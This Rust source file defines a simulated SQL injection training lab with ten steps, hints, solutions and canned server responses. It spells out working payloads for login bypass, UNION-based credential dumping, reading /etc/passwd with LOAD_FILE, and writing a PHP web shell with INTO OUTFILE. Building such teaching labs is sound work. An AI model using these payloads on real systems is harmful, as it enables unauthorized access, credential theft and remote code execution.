//! Lab 04: SQL injection against a vulnerable login form.
//!
//! Payloads arrive quoted (`--user "' OR '1'='1"`) and the tokenizer does not
//! interpret quotes, so everything here matches on the lower-cased line.

use super::{clear_rule, Difficulty, Lab, LabError, LabMeta};
use crate::console::rules::predicates::*;
use crate::console::{Command, Predicate, Response, Rule};
use crate::missions::Step;

pub(super) const META: LabMeta = LabMeta {
    id: 4,
    slug: "lab04",
    title: "El-Ekhteraq",
    subtitle: "SQL Injection: Breaking the Login",
    description: "Exploit a vulnerable login form: bypass authentication, extract user data and \
                  see why parameterized queries are non-negotiable.",
    difficulty: Difficulty::Intermediate,
    points: 200,
    total_steps: 10,
    cwd: "~/sqli",
};

const LOGIN_URL: &str = "http://192.168.1.5/login";
const COLUMN_COUNT: u32 = 3;

const VOCABULARY: &[&str] = &["help", "sqltest", "sqlmap", "mysql", "clear", "history"];

pub(super) fn build() -> Result<Lab, LabError> {
    Lab::assemble(META.id, rules(), steps(), VOCABULARY)
}

fn sqltest(pred: Predicate) -> Predicate {
    cmd("sqltest").and(pred)
}

fn auth_bypass() -> Predicate {
    any(vec![contains("or '1'='1"), contains("or 1=1")])
}

fn union_version() -> Predicate {
    contains("union select").and(contains("version()"))
}

fn dump_users() -> Predicate {
    contains("from users").and(contains("concat"))
}

fn web_shell() -> Predicate {
    contains("into outfile").and(contains("shell.php"))
}

/// The quoted value of `--user`, or an empty string.
fn user_payload(cmd: &Command) -> &str {
    cmd.raw
        .split_once("--user \"")
        .and_then(|(_, rest)| rest.split_once('"'))
        .map_or("", |(payload, _)| payload)
}

fn steps() -> Vec<Step> {
    vec![
        Step::on_command(1, sqltest(contains(r#"--user "'""#)))
            .title("Test for SQLi (Error-Based)")
            .objective("Send a single quote as the username to trigger a SQL error.")
            .hint("' (single quote in the username field)")
            .solution(r#"sqltest --url "http://192.168.1.5/login" --user "'""#),
        Step::on_command(2, sqltest(auth_bypass()))
            .title("Classic Auth Bypass")
            .objective("Use ' OR '1'='1 to log in without a password.")
            .hint("' OR '1'='1")
            .solution(
                r#"sqltest --url "http://192.168.1.5/login" --user "' OR '1'='1" --pass "anything""#,
            ),
        Step::on_command(3, sqltest(contains("admin'--")))
            .title("Comment-Based Bypass")
            .objective("Cut off the password check with SQL comment syntax: admin'--")
            .hint("admin'--")
            .solution(r#"sqltest --url "http://192.168.1.5/login" --user "admin'--" --pass "whatever""#),
        Step::on_command(4, sqltest(contains("order by")))
            .title("Find Number of Columns")
            .objective("Use ORDER BY to work out how many columns the query returns.")
            .hint("' ORDER BY 3--")
            .solution(r#"sqltest --url "http://192.168.1.5/login" --user "' ORDER BY 3--""#),
        Step::on_command(5, sqltest(union_version()))
            .title("UNION-Based Data Extraction")
            .objective("Use UNION SELECT to pull the database version into the page.")
            .hint("' UNION SELECT 1,version(),3--")
            .solution(r#"sqltest --url "http://192.168.1.5/login" --user "' UNION SELECT 1,version(),3--""#),
        Step::on_command(6, sqltest(contains("information_schema.tables")))
            .title("Extract Table Names")
            .objective("Query information_schema to list every table in the database.")
            .hint("' UNION SELECT 1,table_name,3 FROM information_schema.tables--")
            .solution(
                r#"sqltest --url "http://192.168.1.5/login" --user "' UNION SELECT 1,table_name,3 FROM information_schema.tables--""#,
            ),
        Step::on_command(7, sqltest(dump_users()))
            .title("Dump User Credentials")
            .objective("Extract every username and password hash from the users table.")
            .hint("' UNION SELECT 1,concat(username,':',password),3 FROM users--")
            .solution(
                r#"sqltest --url "http://192.168.1.5/login" --user "' UNION SELECT 1,concat(username,':',password),3 FROM users--""#,
            ),
        Step::on_command(8, sqltest(contains("length(password)")))
            .title("Identify Hash Type")
            .objective("Identify the hash algorithm from the length of the password column.")
            .hint("' UNION SELECT 1,length(password),3 FROM users LIMIT 1--")
            .solution(
                r#"sqltest --url "http://192.168.1.5/login" --user "' UNION SELECT 1,length(password),3 FROM users LIMIT 1--""#,
            ),
        Step::on_command(9, sqltest(contains("load_file")))
            .title("Read Local Files (Advanced)")
            .objective("Use LOAD_FILE to read a file from the server's disk.")
            .hint("' UNION SELECT 1,LOAD_FILE('/etc/passwd'),3--")
            .solution(
                r#"sqltest --url "http://192.168.1.5/login" --user "' UNION SELECT 1,LOAD_FILE('/etc/passwd'),3--""#,
            ),
        Step::on_command(10, sqltest(web_shell()))
            .title("Write a Web Shell")
            .objective("Use INTO OUTFILE to drop a PHP backdoor into the web root.")
            .hint("' UNION SELECT 1,'<?php system($_GET[cmd]); ?>',3 INTO OUTFILE '/var/www/html/shell.php'--")
            .solution(
                r#"sqltest --url "http://192.168.1.5/login" --user "' UNION SELECT 1,'<?php system($_GET[cmd]); ?>',3 INTO OUTFILE '/var/www/html/shell.php'--""#,
            ),
    ]
}

fn rules() -> Vec<Rule> {
    vec![
        Rule::fixed("help", cmd("help"), help()).example("help"),
        Rule::fixed("sqltest-quote", sqltest(contains(r#"--user "'""#)), quote_error())
            .example(r#"sqltest --url "http://192.168.1.5/login" --user "'""#),
        Rule::fixed("sqltest-or", sqltest(auth_bypass()), or_bypass())
            .example(r#"sqltest --url "http://192.168.1.5/login" --user "' OR 1=1""#),
        Rule::fixed(
            "sqltest-comment",
            sqltest(any(vec![contains("admin'--"), contains("admin' --")])),
            comment_bypass(),
        )
        .example(r#"sqltest --url "http://192.168.1.5/login" --user "admin' --""#),
        Rule::render("sqltest-order-by", sqltest(contains("order by")), order_by)
            .example(r#"sqltest --url "http://192.168.1.5/login" --user "' ORDER BY 2--""#),
        Rule::fixed("sqltest-version", sqltest(union_version()), version_leak())
            .example(r#"sqltest --url "http://192.168.1.5/login" --user "' UNION SELECT 1,version(),3--""#),
        Rule::fixed(
            "sqltest-tables",
            sqltest(contains("information_schema.tables")),
            table_names(),
        )
        .example(r#"sqltest --user "' UNION SELECT 1,table_name,3 FROM information_schema.tables--""#),
        Rule::fixed("sqltest-dump", sqltest(dump_users()), credential_dump())
            .example(r#"sqltest --user "' UNION SELECT 1,concat(username,':',password),3 FROM users--""#),
        Rule::fixed("sqltest-hash-length", sqltest(contains("length(password)")), hash_length())
            .example(r#"sqltest --user "' UNION SELECT 1,length(password),3 FROM users LIMIT 1--""#),
        Rule::fixed("sqltest-load-file", sqltest(contains("load_file")), load_file())
            .example(r#"sqltest --user "' UNION SELECT 1,LOAD_FILE('/etc/passwd'),3--""#),
        Rule::fixed("sqltest-web-shell", sqltest(web_shell()), shell_written())
            .example(r#"sqltest --user "' UNION SELECT 1,'x',3 INTO OUTFILE '/var/www/html/shell.php'--""#),
        Rule::render("sqltest-other", cmd("sqltest"), login_failed)
            .example(r#"sqltest --url "http://192.168.1.5/login" --user "guest""#),
        Rule::fixed("sqlmap-dbs", cmd("sqlmap").and(flag("--dbs")), sqlmap_dbs())
            .example("sqlmap --url http://192.168.1.5/login --dbs"),
        Rule::fixed(
            "sqlmap-usage",
            cmd("sqlmap"),
            Response::lines([
                "sqlmap: missing --url argument. Use: sqlmap --url 'http://192.168.1.5/login' --dbs",
            ])
            .error(),
        )
        .example("sqlmap"),
        Rule::fixed(
            "mysql",
            cmd("mysql"),
            Response::lines([
                "ERROR 1045 (28000): Access denied for user 'root'@'localhost'",
                "",
                "[*] Direct MySQL access blocked from this machine",
                "[*] But with a web shell we could run mysql from the server itself",
            ])
            .with_note(
                "MySQL should only accept connections from localhost. Bound to 0.0.0.0, anyone \
                 can try to log in, and some servers still allow remote root with no password.",
                "MySQL المفروض يقبل connections من localhost بس",
            ),
        )
        .example("mysql -h 192.168.1.5 -u root -p"),
        Rule::fixed("history", cmd("history"), history()).example("history"),
        clear_rule(),
    ]
}

fn help() -> Response {
    Response::lines([
        "Cyber-Masry SQLi Lab  -  Help Menu",
        "[SIMULATED ENVIRONMENT - EDUCATIONAL USE ONLY]",
        "",
        "  sqltest --url <url> --user <payload>    Test SQLi payload",
        "  sqltest --url <url> --user x --pass x   With password too",
        "  sqlmap --url <url> --dbs                Auto-detect SQLi",
        "  mysql -h 192.168.1.5 -u root -p         Direct DB access",
        "  clear                                   Clear terminal",
        "",
        "  Target: http://192.168.1.5/login",
        r#"  Start:  sqltest --url "http://192.168.1.5/login" --user "'""#,
    ])
}

fn quote_error() -> Response {
    Response::lines([
        format!("[*] Sending request to {}", LOGIN_URL),
        "[*] Username: '".to_string(),
        "[*] Password: (empty)".to_string(),
        String::new(),
        "[!] HTTP 500 Internal Server Error".to_string(),
        String::new(),
        "MySQL Error: You have an error in your SQL syntax;".to_string(),
        "check the manual that corresponds to your MySQL server version".to_string(),
        "for the right syntax to use near ''''' at line 1".to_string(),
        String::new(),
        "Raw SQL (leaked in error):".to_string(),
        "  SELECT * FROM users WHERE username=''' AND password=''".to_string(),
        String::new(),
        "[+] CONFIRMED: Application is vulnerable to SQL Injection!".to_string(),
    ])
    .with_note(
        "A lone quote breaks the string literal and the server echoes the database error. That \
         confirms the injection and leaks the exact query shape.",
        "فلتة واحدة ' كسرت الـ SQL query وكشفت السطر بالكامل",
    )
}

fn or_bypass() -> Response {
    Response::lines([
        format!("[*] Sending request to {}", LOGIN_URL),
        "[*] Username: ' OR '1'='1".to_string(),
        String::new(),
        "SQL Query (backend):".to_string(),
        "  SELECT * FROM users".to_string(),
        "  WHERE username='' OR '1'='1' AND password='anything'".to_string(),
        String::new(),
        "[+] '1'='1' is ALWAYS TRUE -> condition bypassed!".to_string(),
        "[+] HTTP 200 OK - Login Successful!".to_string(),
        String::new(),
        "  LOGGED IN AS: admin (first row)".to_string(),
        "  FLAG{SQLi_Auth_Bypass_Classic}".to_string(),
    ])
    .with_note(
        "The OR clause makes the WHERE condition always true, so the database returns its first \
         row, usually the admin. Parameterized queries make this impossible.",
        "OR '1'='1' بيخلي الـ WHERE condition دايماً صح",
    )
}

fn comment_bypass() -> Response {
    Response::lines([
        format!("[*] Sending request to {}", LOGIN_URL),
        "[*] Username: admin'--".to_string(),
        String::new(),
        "SQL Query (transformed):".to_string(),
        "  SELECT * FROM users".to_string(),
        "  WHERE username='admin'-- ' AND password='...'".to_string(),
        "                        ^ comment cuts here".to_string(),
        String::new(),
        "[+] Password check eliminated by comment!".to_string(),
        "[+] HTTP 200 OK - Logged in directly as admin!".to_string(),
        String::new(),
        "  FLAG{Comment_Bypass_SQL_Expert}".to_string(),
    ])
    .with_note(
        "Everything after -- is ignored by MySQL, so the password clause disappears and the \
         attacker logs in as any known username.",
        "-- في SQL = اشيل باقي السطر ده",
    )
}

fn order_by(cmd: &Command) -> Response {
    let column = cmd
        .lowered
        .split_once("order by")
        .and_then(|(_, rest)| {
            let digits: String = rest
                .trim_start()
                .chars()
                .take_while(char::is_ascii_digit)
                .collect();
            digits.parse::<u32>().ok()
        })
        .unwrap_or(1);

    if column > COLUMN_COUNT {
        return Response::lines([
            format!("[*] Sending payload: ' ORDER BY {}--", column),
            format!("[!] HTTP 500 - Column {} does not exist in result set", column),
            format!("[+] CONFIRMED: Query returns exactly {} columns", COLUMN_COUNT),
        ])
        .with_note_en(format!(
            "ORDER BY {} failed, so the query has {} columns. A UNION SELECT must supply the same \
             number of values.",
            column, COLUMN_COUNT
        ));
    }

    let mut lines = vec![
        format!("[*] Sending payload: ' ORDER BY {}--", column),
        String::new(),
        format!("[+] HTTP 200 - Query succeeded (column {} exists)", column),
    ];
    if column < COLUMN_COUNT {
        lines.push(format!("[*] Try ORDER BY {} to test the next column", column + 1));
    } else {
        lines.extend([
            "[+] ORDER BY 4 would cause an error".to_string(),
            "[+] CONFIRMED: Query returns exactly 3 columns".to_string(),
            "[+] Ready for UNION SELECT 1,2,3".to_string(),
        ]);
    }
    Response::lines(lines).with_note(
        format!(
            "ORDER BY {} sorts by column {}. Raise the number until the query fails to learn \
             the column count.",
            column, column
        ),
        format!("ORDER BY {} نجح.. كمّل ارفع الرقم لحد ما الـ query تغلط", column),
    )
}

fn version_leak() -> Response {
    Response::lines([
        "[*] Sending UNION payload...",
        "",
        "[+] HTTP 200 - UNION injection successful!",
        "",
        "Data extracted from database:",
        "  Column 2 (injected): 5.7.32-log",
        "",
        "[!] MySQL 5.7.32: End of Life since October 2023",
        "[!] No more security patches from Oracle",
    ])
    .with_note(
        "UNION SELECT appends a second query and returns both result sets. version() makes the \
         database report its own release, here an end-of-life MySQL.",
        "UNION SELECT بيضيف query تانية على الأصلية",
    )
}

fn table_names() -> Response {
    Response::lines([
        "[*] Querying information_schema.tables...",
        "",
        "Tables found in database 'evilcorp_db':",
        "  Column 2: users",
        "  Column 2: products",
        "  Column 2: orders",
        "  Column 2: admin_logs",
        "  Column 2: sessions",
        "  Column 2: password_resets",
        "",
        "[+] Found 6 tables!",
        "[+] Key target: 'users' table",
    ])
    .with_note(
        "information_schema describes every database and table on the server. Listing its \
         tables is the usual next move once UNION works.",
        "information_schema ده دليل تليفونات الـ database كلها",
    )
}

fn credential_dump() -> Response {
    Response::lines([
        "[*] Dumping users table...",
        "",
        "Extracted credentials:",
        "  admin:5f4dcc3b5aa765d61d8327deb882cf99",
        "  omar.badran:e10adc3949ba59abbe56e057f20f883e",
        "  it.manager:25d55ad283aa400af464c76d713c07ad",
        "  ceo:d8578edf8458ce06fbc5bb76a58c5ca4",
        "  sysadmin:827ccb0eea8a706c4c34a16891f84e7b",
        "",
        "[+] All 5 user credentials extracted!",
        "[!] Passwords appear to be MD5 hashed (32 chars)",
        "[!] Use: hashcat -m 0 hashes.txt rockyou.txt",
    ])
    .with_note(
        "5f4dcc3b5aa765d61d8327deb882cf99 is MD5('password'). Unsalted MD5 falls to rainbow \
         tables instantly. Passwords belong in bcrypt or Argon2.",
        "MD5 انكسر من زمان! Hashcat بيكسره في ثانية",
    )
}

fn hash_length() -> Response {
    Response::lines([
        "[*] Measuring password hash length...",
        "",
        "Length of password field: 32",
        "",
        "Hash type identification:",
        "  32 chars -> MD5",
        "  40 chars -> SHA1",
        "  64 chars -> SHA256",
        "  60 chars -> bcrypt",
        "",
        "[!] 32 chars = MD5: critically weak",
    ])
    .with_note(
        "Hash length identifies the algorithm. MD5 has no salt and is fast to brute force.",
        "32 حرف = MD5 وده خطر جداً",
    )
}

fn load_file() -> Response {
    Response::lines([
        "[*] Attempting LOAD_FILE('/etc/passwd')...",
        "",
        "[+] MySQL FILE privilege granted to current user!",
        "",
        "File contents:",
        "  root:x:0:0:root:/root:/bin/bash",
        "  daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin",
        "  mysql:x:117:125:MySQL Server,,,:/nonexistent:/bin/false",
        "  www-data:x:33:33:www-data:/var/www:/usr/sbin/nologin",
        "  ftpuser:x:1001:1001:,,,:/home/ftpuser:/bin/bash",
        "",
        "[!] User 'ftpuser' has a real shell: target for SSH brute force",
    ])
    .with_note(
        "LOAD_FILE reads any file the MySQL process can see when the account holds the FILE \
         privilege. Database accounts should never have it.",
        "LOAD_FILE بيقرأ أي ملف على السيرفر",
    )
}

fn shell_written() -> Response {
    Response::lines([
        "[*] Writing PHP shell to web root...",
        "",
        "[+] INTO OUTFILE successful!",
        "[+] File written: /var/www/html/shell.php",
        "",
        "Testing shell:",
        "  GET http://192.168.1.5/shell.php?cmd=id",
        "  Response: uid=33(www-data) gid=33(www-data) groups=33(www-data)",
        "",
        "[+] Remote Code Execution achieved via SQLi -> Web Shell!",
        "",
        "FLAG{SQLi_to_RCE_Master_Level}",
    ])
    .with_note(
        "SQL injection, then a file write, then a web shell: a full chain to remote code \
         execution from a login box.",
        "SQLi -> RCE! من خانة login وصلنا لتحكم كامل في السيرفر",
    )
}

fn login_failed(cmd: &Command) -> Response {
    Response::lines([
        format!("[*] Sending payload: {}", user_payload(cmd)),
        String::new(),
        "[*] Response: 401 Unauthorized".to_string(),
        "[*] Login failed".to_string(),
        String::new(),
        "[*] Hint: try the current step's hint".to_string(),
        "[*] Type 'help' to see available commands".to_string(),
    ])
}

fn sqlmap_dbs() -> Response {
    Response::lines([
        "sqlmap v1.7",
        "",
        "[*] testing connection to target URL",
        "[+] GET parameter 'id' is 'AND boolean-based blind' injectable",
        "",
        "available databases [3]:",
        "  [*] evilcorp_db",
        "  [*] information_schema",
        "  [*] mysql",
    ])
    .with_note(
        "sqlmap automates injection but every IDS notices it. Get written authorization first.",
        "sqlmap أداة رهيبة بس صوتها عالي جداً",
    )
}

fn history() -> Response {
    Response::lines([
        r#"    1  sqltest --url "http://192.168.1.5/login" --user "'""#,
        r#"    2  sqltest --url "http://192.168.1.5/login" --user "' OR '1'='1" --pass "anything""#,
        r#"    3  sqltest --url "http://192.168.1.5/login" --user "admin'--""#,
        "    4  history",
    ])
}
